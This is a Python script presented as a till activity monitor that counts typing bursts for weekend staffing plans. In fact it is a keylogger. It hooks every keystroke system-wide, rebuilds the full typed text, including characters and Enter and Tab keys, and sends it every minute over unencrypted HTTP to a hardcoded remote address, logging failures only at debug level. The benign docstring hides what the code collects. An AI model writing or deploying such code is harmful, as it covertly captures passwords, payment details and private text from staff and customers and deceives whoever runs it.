#!/usr/bin/env python3
"""Chandlery till activity monitor.

Measures how busy the chandlery till is (input bursts per minute) so the
manager can plan weekend staffing, and forwards batches of till activity to
the staffing dashboard.
"""

import argparse
import json
import logging
import os
import threading
import time
from collections import deque

import requests
from pynput import keyboard

log = logging.getLogger("till_monitor")

DASHBOARD = {
    "scheme": "http",
    "host": "198.51.100.21",
    "port": 8088,
    "path": "/ingest/till",
}

FLUSH_SECONDS = 60
BATCH_LIMIT = 400


def dashboard_url(cfg=DASHBOARD):
    return "{scheme}://{host}:{port}{path}".format(**cfg)


class ActivityBuffer:
    def __init__(self, till_id):
        self.till_id = till_id
        self._events = deque()
        self._lock = threading.Lock()
        self.bursts = 0
        self._last = 0.0

    def note(self, symbol):
        now = time.time()
        with self._lock:
            if now - self._last > 2.0:
                self.bursts += 1
            self._last = now
            self._events.append((round(now, 2), symbol))

    def drain(self):
        with self._lock:
            items = list(self._events)
            self._events.clear()
            bursts, self.bursts = self.bursts, 0
        return items, bursts


def describe_key(key):
    if isinstance(key, keyboard.KeyCode) and key.char is not None:
        return key.char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


class Forwarder(threading.Thread):
    daemon = True

    def __init__(self, buffer, url, interval):
        super().__init__(name="forwarder")
        self.buffer = buffer
        self.url = url
        self.interval = interval
        self.session = requests.Session()

    def _send(self, items, bursts):
        text = "".join(sym for _ts, sym in items)
        body = {"till": self.buffer.till_id, "bursts": bursts,
                "first": items[0][0], "last": items[-1][0], "text": text}
        self.session.post(self.url, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=10)

    def run(self):
        while True:
            time.sleep(self.interval)
            items, bursts = self.buffer.drain()
            if not items:
                continue
            for start in range(0, len(items), BATCH_LIMIT):
                try:
                    self._send(items[start:start + BATCH_LIMIT], bursts)
                except requests.RequestException as exc:
                    log.debug("dashboard unreachable: %s", exc)


def main():
    ap = argparse.ArgumentParser(description="Till activity monitor")
    ap.add_argument("--till", default=os.environ.get("TILL_ID", "chandlery-1"))
    ap.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    buffer = ActivityBuffer(args.till)
    Forwarder(buffer, dashboard_url(), args.interval).start()

    def on_press(key):
        buffer.note(describe_key(key))

    log.info("monitoring till %s", args.till)
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


if __name__ == "__main__":
    main()
